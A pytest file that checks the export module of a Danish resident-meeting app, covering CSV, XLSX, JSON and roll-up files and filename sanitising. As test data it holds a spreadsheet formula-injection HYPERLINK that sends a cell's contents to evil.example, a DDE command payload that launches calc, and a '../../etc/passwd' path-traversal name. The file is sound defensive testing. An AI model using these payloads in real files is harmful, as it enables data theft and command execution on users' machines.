"""Tests for shared/export.py: the session and roll-up files read back exactly."""

from __future__ import annotations

import copy
import csv
import io
import json
import zipfile
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from shared import export

HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&A1,"Klik her")'


def danish_results() -> dict:
    """A realistic session export: Danish text, a hostile comment, a hidden one, an info slide."""
    return {
        "session": {
            "id": "s-1",
            "code": "K7M2QX",
            "title": "Beboermøde i Ærøskøbing",
            "unit": "Afdeling 12 – Østergården",
            "status": "ended",
            "guide_title": "Almene Mål – Tema 3: Demokrati og levende fællesskaber",
            "language": "da",
            "started_at": "2025-03-04T18:00:00+00:00",
            "ended_at": "2025-03-04T19:30:00+00:00",
            "facilitator": "Søren Æbelø",
            "participants": 23,
        },
        "items": [
            {
                "id": "i-formaal",
                "index": 0,
                "kind": "info",
                "title": "Formål med drøftelsen",
                "section": {
                    "title": "Den almene sektor som demokratisk aktør",
                    "statement": "Vi vil vise og styrke den almene sektor som demokratisk aktør",
                    "tags": ["Beboerdemokrati", "Frivillighed", "Politikker"],
                },
                "text": "",
                "choices": [],
                "counts": {"yes": 0, "no": 0, "unsure": 0},
                "voters": 0,
                "comments": [],
                "conclusion": None,
            },
            {
                "id": "i-tillid",
                "index": 1,
                "kind": "consideration",
                "title": "",
                "section": {
                    "title": "Den almene sektor som demokratisk aktør",
                    "statement": "Vi vil vise og styrke den almene sektor som demokratisk aktør",
                    "tags": ["Beboerdemokrati", "Frivillighed", "Politikker"],
                },
                "text": "Er der tillid og opbakning til os som demokratisk aktør?",
                "choices": ["yes", "no", "unsure"],
                "counts": {"yes": 12, "no": 5, "unsure": 4},
                "voters": 21,
                "comments": [
                    {"id": "c-1", "text": HYPERLINK,
                     "created_at": "2025-03-04T18:10:05+00:00", "hidden": False, "pinned": False},
                    {"id": "c-2",
                     "text": "Vi skal være bedre til at lytte til de unge – også på Facebook",
                     "created_at": "2025-03-04T18:11:30+00:00", "hidden": False, "pinned": True},
                    {"id": "c-3", "text": "Dumt spørgsmål\x07\x00",
                     "created_at": "2025-03-04T18:12:00+00:00", "hidden": True, "pinned": False,
                     "approved": False},
                ],
                "conclusion": "Stor opbakning, men de unge mangler",
            },
            {
                "id": "i-deltagelse",
                "index": 2,
                "kind": "prompt",
                "title": "",
                "section": {"title": "Levende fællesskaber", "statement": "", "tags": []},
                "text": "Hvordan understøtter vi den brede demokratiske deltagelse?",
                "choices": [],
                "counts": {"yes": 0, "no": 0, "unsure": 0},
                "voters": 0,
                "comments": [
                    {"id": "c-4", "text": "-5 grader og ingen kom",
                     "created_at": "2025-03-04T18:20:00+00:00", "hidden": False, "pinned": False, "likes": 4},
                    {"id": "c-5", "text": "Fællesspisning før mødet 🍲\nog børnepasning",
                     "created_at": "2025-03-04T18:21:00+00:00", "hidden": False},
                ],
            },
            {
                # Only the contract's keys: everything else must read as empty.
                "id": "i-bestyrelse",
                "kind": "consideration",
                "text": "Skal bestyrelsen holde åbent møde hver måned?",
                "counts": {"yes": 2, "no": 1, "unsure": 0},
            },
        ],
    }


def danish_rollup() -> dict:
    return {
        "guide": {"id": "g-1", "title": "Almene Mål – Tema 3"},
        "sessions": [
            {"id": "s-1", "title": "Beboermøde i Ærøskøbing", "unit": "Afdeling 12",
             "started_at": "2025-03-04T18:00:00+00:00", "participants": 23},
            {"id": "s-2", "title": "Dialogmøde på Østerbro", "unit": "Afdeling 7",
             "started_at": "2025-03-11T17:30:00+00:00", "participants": 9},
        ],
        "items": [
            {"id": "i-tillid", "kind": "consideration",
             "text": "Er der tillid og opbakning til os som demokratisk aktør?",
             "per_session": {
                 "s-1": {"yes": 12, "no": 5, "unsure": 4, "voters": 21, "comments": 3},
                 "s-2": {"yes": 6, "no": 2, "unsure": 0, "voters": 8, "comments": 1},
             },
             "total": {"yes": 18, "no": 7, "unsure": 4, "voters": 29, "comments": 4}},
            {"id": "i-ny", "kind": "consideration", "text": "+45 ekstra møder om året?",
             "per_session": {"s-2": {"yes": 0, "no": 0, "unsure": 0, "voters": 0, "comments": 0}},
             "total": {"yes": 0, "no": 0, "unsure": 0, "voters": 0, "comments": 0}},
        ],
    }


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_rows(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


# --------------------------------------------------------------------------------------------------
# Session CSV
# --------------------------------------------------------------------------------------------------


def test_session_csv_encoding_and_line_ends():
    data = export.session_csv(danish_results())

    assert data.startswith(b"\xef\xbb\xbfposition,section,")
    assert "Ærøskøbing".encode() not in data  # the session title is not part of the CSV
    assert "aktør".encode() in data
    text = data.decode("utf-8-sig")
    # Every record ends in CRLF; the only bare LF is the one inside the quoted multi-line comment.
    assert text.endswith("\r\n")
    assert text.replace("\r\n", "").count("\n") == 1
    assert '"Fællesspisning før mødet 🍲\nog børnepasning"' in text


def test_session_csv_items_table():
    rows = read_csv(export.session_csv(danish_results()))
    tags = "Beboerdemokrati, Frivillighed, Politikker"

    assert rows[:5] == [
        ["position", "section", "tags", "kind", "text", "yes", "no", "unsure", "voters",
         "percent_yes", "comments", "conclusion", "hands_yes", "hands_no", "hands_unsure"],
        ["1", "Den almene sektor som demokratisk aktør", tags, "info", "Formål med drøftelsen",
         "0", "0", "0", "0", "", "0", "", "0", "0", "0"],
        ["2", "Den almene sektor som demokratisk aktør", tags, "consideration",
         "Er der tillid og opbakning til os som demokratisk aktør?",
         "12", "5", "4", "21", "57.1", "2", "Stor opbakning, men de unge mangler", "0", "0", "0"],
        ["3", "Levende fællesskaber", "", "prompt",
         "Hvordan understøtter vi den brede demokratiske deltagelse?",
         "0", "0", "0", "0", "", "2", "", "0", "0", "0"],
        ["4", "", "", "consideration", "Skal bestyrelsen holde åbent møde hver måned?",
         "2", "1", "0", "0", "66.7", "0", "", "0", "0", "0"],
    ]
    assert rows[5] == []


def test_session_csv_comments_table():
    rows = read_csv(export.session_csv(danish_results()))

    assert rows[6:] == [
        ["item_position", "comment_id", "created_at", "pinned", "hidden", "text", "likes", "approved"],
        ["2", "c-1", "2025-03-04T18:10:05+00:00", "false", "false", "'" + HYPERLINK, "0", "true"],
        ["2", "c-2", "2025-03-04T18:11:30+00:00", "true", "false",
         "Vi skal være bedre til at lytte til de unge – også på Facebook", "0", "true"],
        # Still waiting for approval when it was hidden (issue 11, point 4).
        ["2", "c-3", "2025-03-04T18:12:00+00:00", "false", "true", "Dumt spørgsmål\x07\x00", "0", "false"],
        # The thumbs-up the phones gave (issue 11, section 3).
        ["3", "c-4", "2025-03-04T18:20:00+00:00", "false", "false", "'-5 grader og ingen kom", "4", "true"],
        ["3", "c-5", "2025-03-04T18:21:00+00:00", "false", "false",
         "Fællesspisning før mødet 🍲\nog børnepasning", "0", "true"],
    ]


@pytest.mark.parametrize("text", ["=1+1", "+45 12 34 56 78", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_session_csv_neutralises_every_formula_trigger(text):
    results = {"items": [{"kind": "prompt", "text": text,
                          "comments": [{"id": "c", "text": text}], "conclusion": text}]}
    rows = read_csv(export.session_csv(results))

    assert rows[1][4] == "'" + text
    assert rows[1][11] == "'" + text
    assert rows[4][5] == "'" + text


def test_session_csv_harmless_text_is_untouched():
    results = {"items": [{"kind": "prompt", "text": "Ja, 100 % = enige", "comments": [
        {"id": "c", "text": "'allerede citeret"}, {"id": "d", "text": " =mellemrum først"}]}]}
    rows = read_csv(export.session_csv(results))

    assert rows[1][4] == "Ja, 100 % = enige"
    assert [r[5] for r in rows[4:]] == ["'allerede citeret", " =mellemrum først"]


def test_session_csv_percent_rounds_half_up():
    # 1 of 16 is exactly 6.25 %: Excel's 0.0% shows 6.3 %, so the CSV must say the same.
    results = {"items": [{"kind": "consideration", "text": "x",
                          "counts": {"yes": 1, "no": 15, "unsure": 0}}]}
    assert read_csv(export.session_csv(results))[1][9] == "6.3"


def test_session_csv_of_empty_results():
    rows = read_csv(export.session_csv({}))
    assert rows == [
        ["position", "section", "tags", "kind", "text", "yes", "no", "unsure", "voters",
         "percent_yes", "comments", "conclusion", "hands_yes", "hands_no", "hands_unsure"],
        [],
        ["item_position", "comment_id", "created_at", "pinned", "hidden", "text", "likes", "approved"],
    ]


# --------------------------------------------------------------------------------------------------
# Session XLSX
# --------------------------------------------------------------------------------------------------


def load(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_session_xlsx_items_sheet():
    wb = load(export.session_xlsx(danish_results()))
    assert wb.sheetnames == ["Items", "Comments", "Session"]
    ws = wb["Items"]
    tags = "Beboerdemokrati, Frivillighed, Politikker"

    assert sheet_rows(ws) == [
        ["position", "section", "tags", "kind", "text", "yes", "no", "unsure", "voters",
         "percent_yes", "comments", "conclusion", "hands_yes", "hands_no", "hands_unsure"],
        [1, "Den almene sektor som demokratisk aktør", tags, "info", "Formål med drøftelsen",
         0, 0, 0, 0, None, 0, None, 0, 0, 0],
        [2, "Den almene sektor som demokratisk aktør", tags, "consideration",
         "Er der tillid og opbakning til os som demokratisk aktør?",
         12, 5, 4, 21, pytest.approx(12 / 21), 2, "Stor opbakning, men de unge mangler", 0, 0, 0],
        [3, "Levende fællesskaber", None, "prompt",
         "Hvordan understøtter vi den brede demokratiske deltagelse?",
         0, 0, 0, 0, None, 2, None, 0, 0, 0],
        [4, None, None, "consideration", "Skal bestyrelsen holde åbent møde hver måned?",
         2, 1, 0, 0, pytest.approx(2 / 3), 0, None, 0, 0, 0],
    ]
    assert ws["J3"].number_format == "0.0%"
    assert ws["J5"].number_format == "0.0%"
    assert all(cell.font.bold for cell in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws["E3"].alignment.wrap_text
    assert ws.column_dimensions["E"].width > ws.column_dimensions["F"].width


def test_session_xlsx_comments_sheet():
    ws = load(export.session_xlsx(danish_results()))["Comments"]
    question = "Er der tillid og opbakning til os som demokratisk aktør?"
    section = "Den almene sektor som demokratisk aktør"
    prompt = "Hvordan understøtter vi den brede demokratiske deltagelse?"

    assert sheet_rows(ws) == [
        ["item_position", "section", "item_text", "created_at", "pinned", "hidden", "text", "likes", "approved"],
        [2, section, question, datetime(2025, 3, 4, 18, 10, 5), False, False, "'" + HYPERLINK, 0, True],
        [2, section, question, datetime(2025, 3, 4, 18, 11, 30), True, False,
         "Vi skal være bedre til at lytte til de unge – også på Facebook", 0, True],
        # The control characters are stripped: XML cannot carry them.
        [2, section, question, datetime(2025, 3, 4, 18, 12), False, True, "Dumt spørgsmål", 0, False],
        [3, "Levende fællesskaber", prompt, datetime(2025, 3, 4, 18, 20), False, False,
         "'-5 grader og ingen kom", 4, True],
        [3, "Levende fællesskaber", prompt, datetime(2025, 3, 4, 18, 21), False, False,
         "Fællesspisning før mødet 🍲\nog børnepasning", 0, True],
    ]
    assert ws["G2"].data_type == "s"
    assert ws["D2"].is_date


def test_session_xlsx_never_stores_formulas_or_error_values():
    results = {"items": [{"kind": "prompt", "text": "=1+1", "comments": [
        {"id": "c", "text": "#N/A"}, {"id": "d", "text": "\x01=cmd|' /C calc'!A0"}]}]}
    data = export.session_xlsx(results)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b't="e"' in xml for xml in sheets)

    wb = load(data)
    assert wb["Items"]["E2"].value == "'=1+1"
    assert [wb["Comments"][f"G{r}"].value for r in (2, 3)] == ["#N/A", "'=cmd|' /C calc'!A0"]
    assert {wb["Comments"][f"G{r}"].data_type for r in (2, 3)} == {"s"}


def test_session_xlsx_session_sheet():
    ws = load(export.session_xlsx(danish_results()))["Session"]

    assert sheet_rows(ws) == [
        ["key", "value"],
        ["title", "Beboermøde i Ærøskøbing"],
        ["code", "K7M2QX"],
        ["unit", "Afdeling 12 – Østergården"],
        ["guide", "Almene Mål – Tema 3: Demokrati og levende fællesskaber"],
        ["language", "da"],
        ["status", "ended"],
        ["started", datetime(2025, 3, 4, 18, 0)],
        ["ended", datetime(2025, 3, 4, 19, 30)],
        ["facilitator", "Søren Æbelø"],
        ["participants", 23],
        ["entered_by_hand", False],
        ["held_on", None],
    ]


def test_session_xlsx_is_deterministic():
    first = export.session_xlsx(danish_results())
    assert export.session_xlsx(copy.deepcopy(danish_results())) == first

    wb = load(first)
    assert wb.properties.created == datetime(2025, 3, 4, 18, 0)
    assert wb.properties.modified == datetime(2025, 3, 4, 18, 0)
    assert wb.properties.title == "Beboermøde i Ærøskøbing"


def test_every_xlsx_member_carries_the_sessions_time_not_the_clock():
    """openpyxl adds worksheets from temporary files; their mtime must not leak into the bytes."""
    for body in (export.session_xlsx(danish_results()), export.rollup_xlsx(danish_rollup())):
        members = zipfile.ZipFile(io.BytesIO(body)).infolist()
        assert {m.date_time for m in members} == {members[0].date_time}, [m.filename for m in members]
    first = zipfile.ZipFile(io.BytesIO(export.session_xlsx(danish_results()))).infolist()[0]
    assert first.date_time == (2025, 3, 4, 18, 0, 0)


def test_session_xlsx_of_sparse_results_loads():
    wb = load(export.session_xlsx({"items": [{"kind": "prompt"}]}))
    assert sheet_rows(wb["Items"])[1] == [1, None, None, "prompt", None, 0, 0, 0, 0, None, 0, None, 0, 0, 0]
    assert sheet_rows(wb["Comments"]) == [
        ["item_position", "section", "item_text", "created_at", "pinned", "hidden", "text", "likes", "approved"]]
    assert wb.properties.created == datetime(1980, 1, 1)


# --------------------------------------------------------------------------------------------------
# Session JSON
# --------------------------------------------------------------------------------------------------


def test_session_json_round_trips_with_literal_letters():
    results = danish_results()
    data = export.session_json(results)

    assert json.loads(data) == results
    assert "Ærøskøbing".encode() in data
    assert data == json.dumps(results, ensure_ascii=False, indent=2).encode()


# --------------------------------------------------------------------------------------------------
# Roll-up
# --------------------------------------------------------------------------------------------------


def test_rollup_csv_rows_and_totals():
    data = export.rollup_csv(danish_rollup())
    assert data.startswith(b"\xef\xbb\xbfitem_id,")
    tillid = "Er der tillid og opbakning til os som demokratisk aktør?"

    assert read_csv(data) == [
        ["item_id", "kind", "text", "session_id", "session_title", "unit", "started_at", "yes",
         "no", "unsure", "voters", "comments", "percent_yes", "hands_yes", "hands_no", "hands_unsure",
         "entered_by_hand", "conclusion"],
        ["i-tillid", "consideration", tillid, "s-1", "Beboermøde i Ærøskøbing", "Afdeling 12",
         "2025-03-04T18:00:00+00:00", "12", "5", "4", "21", "3", "57.1", "0", "0", "0", "false", ""],
        ["i-tillid", "consideration", tillid, "s-2", "Dialogmøde på Østerbro", "Afdeling 7",
         "2025-03-11T17:30:00+00:00", "6", "2", "0", "8", "1", "75.0", "0", "0", "0", "false", ""],
        ["i-tillid", "consideration", tillid, "", "total", "", "", "18", "7", "4", "29", "4",
         "62.1", "0", "0", "0", "", ""],
        # Added to the guide after the first session: no row for s-1, not a row of zeros.
        ["i-ny", "consideration", "'+45 ekstra møder om året?", "s-2", "Dialogmøde på Østerbro",
         "Afdeling 7", "2025-03-11T17:30:00+00:00", "0", "0", "0", "0", "0", "", "0", "0", "0", "false", ""],
        ["i-ny", "consideration", "'+45 ekstra møder om året?", "", "total", "", "", "0", "0",
         "0", "0", "0", "", "0", "0", "0", "", ""],
    ]


def test_rollup_csv_sums_a_missing_total():
    rollup = danish_rollup()
    del rollup["items"][0]["total"]
    assert read_csv(export.rollup_csv(rollup))[3][7:13] == ["18", "7", "4", "29", "4", "62.1"]


def test_rollup_xlsx_items_sheet():
    data = export.rollup_xlsx(danish_rollup())
    wb = load(data)
    assert wb.sheetnames == ["Items", "Conclusions", "Comments", "Tags", "Sessions", "Chart data", "Chart"]
    ws = wb["Items"]
    tillid = "Er der tillid og opbakning til os som demokratisk aktør?"
    group = ["yes", "no", "unsure", "percent_yes"]

    rows = sheet_rows(ws)
    assert rows[0] == [None, None, None,
                       "Beboermøde i Ærøskøbing (Afdeling 12, 2025-03-04)", None, None, None,
                       "Dialogmøde på Østerbro (Afdeling 7, 2025-03-11)", None, None, None,
                       "total", None, None, None, None, None]
    assert rows[1] == ["item_id", "kind", "text", *group, *group, *group, "voters", "comments"]
    assert rows[2:] == [
        ["i-tillid", "consideration", tillid,
         12, 5, 4, pytest.approx(12 / 21),
         6, 2, 0, pytest.approx(6 / 8),
         18, 7, 4, pytest.approx(18 / 29), 29, 4],
        ["i-ny", "consideration", "'+45 ekstra møder om året?",
         None, None, None, None,
         0, 0, 0, None,
         0, 0, 0, None, 0, 0],
    ]
    assert {str(r) for r in ws.merged_cells.ranges} == {"D1:G1", "H1:K1", "L1:Q1"}
    assert ws["G3"].number_format == "0.0%"
    assert ws["O3"].number_format == "0.0%"
    assert ws.freeze_panes == "D3"
    assert ws["L1"].font.bold and ws["L2"].font.bold

    assert export.rollup_xlsx(copy.deepcopy(danish_rollup())) == data
    assert wb.properties.created == datetime(2025, 3, 11, 17, 30)


def test_rollup_xlsx_sessions_sheet():
    ws = load(export.rollup_xlsx(danish_rollup()))["Sessions"]
    assert sheet_rows(ws) == [
        ["session_id", "title", "unit", "started_at", "participants", "entered_by_hand"],
        ["s-1", "Beboermøde i Ærøskøbing", "Afdeling 12", datetime(2025, 3, 4, 18, 0), 23, False],
        ["s-2", "Dialogmøde på Østerbro", "Afdeling 7", datetime(2025, 3, 11, 17, 30), 9, False],
    ]


def test_rollup_of_a_guide_without_sessions():
    rollup = {"guide": {"id": "g", "title": "Tom"}, "sessions": [],
              "items": [{"id": "i", "kind": "prompt", "text": "Hvad nu?", "per_session": {},
                         "total": {"yes": 0, "no": 0, "unsure": 0, "voters": 0, "comments": 0}}]}
    assert read_csv(export.rollup_csv(rollup))[1:] == [
        ["i", "prompt", "Hvad nu?", "", "total", "", "", "0", "0", "0", "0", "0", "", "0", "0", "0", "", ""]]
    ws = load(export.rollup_xlsx(rollup))["Items"]
    assert sheet_rows(ws)[2] == ["i", "prompt", "Hvad nu?", 0, 0, 0, None, 0, 0]


# --------------------------------------------------------------------------------------------------
# File names
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("base", "ext", "expected"),
    [
        ("Möte i Malmö K7M2QX", "csv", "Moete-i-Malmoe-K7M2QX.csv"),
        ("Beboermøde i Ærøskøbing", "xlsx", "Beboermoede-i-Aeroeskoebing.xlsx"),
        ("Åbent hus på Ålegården", "json", "Aabent-hus-paa-Aalegaarden.json"),
        ("ÄLDRE ÖVER ÅTTIO", "csv", "AeLDRE-OeVER-AaTTIO.csv"),
        ("Tema 3: Demokrati/fællesskab", "csv", "Tema-3-Demokrati-faellesskab.csv"),
        ("  --Café «Ny» — 2025!?  ", "csv", "Cafe-Ny-2025.csv"),
        ("../../etc/passwd", "csv", "etc-passwd.csv"),
        ("a -  - b", "csv", "a-b.csv"),
        ("", "csv", "export.csv"),
        ("???", ".xlsx", "export.xlsx"),
        ("CON", "csv", "CON-export.csv"),
        ("Rapport", "", "Rapport"),
    ],
)
def test_filename(base, ext, expected):
    assert export.filename(base, ext) == expected


def test_filename_is_at_most_80_ascii_characters():
    name = export.filename("Almene Mål – Tema 3: Demokrati og levende fællesskaber " * 4, "xlsx")

    assert len(name) <= 80
    assert name.endswith(".xlsx")
    assert name.isascii()
    assert name.startswith("Almene-Maal-Tema-3-Demokrati-og-levende-faellesskaber-Almene")
    assert not name[: -len(".xlsx")].endswith(("-", "."))


# --------------------------------------------------------------------------------------------------
# Arbitrary participant text
# --------------------------------------------------------------------------------------------------


@settings(max_examples=60, deadline=None, database=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=40))
def test_any_text_exports_and_never_becomes_a_formula(text):
    results = {
        "session": {"title": text, "started_at": text, "facilitator": text},
        "items": [{"kind": "prompt", "text": text, "section": {"title": text, "tags": [text]},
                   "comments": [{"id": text, "text": text, "created_at": text}],
                   "conclusion": text}],
    }
    rows = read_csv(export.session_csv(results))
    wb = load(export.session_xlsx(results))
    rollup = {"guide": {"title": text},
              "sessions": [{"id": "s", "title": text, "unit": text, "started_at": text}],
              "items": [{"id": text, "text": text, "per_session": {"s": {"yes": 1}}}]}
    rows += read_csv(export.rollup_csv(rollup))
    rollup_wb = load(export.rollup_xlsx(rollup))

    cells = [value for row in rows for value in row]
    for book in (wb, rollup_wb):
        for ws in book.worksheets:
            cells += [cell.value for row in ws.iter_rows() for cell in row
                      if isinstance(cell.value, str)]
            assert {cell.data_type for row in ws.iter_rows() for cell in row} <= {"s", "n", "b", "d"}
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)
    assert export.filename(text, "csv").isascii()
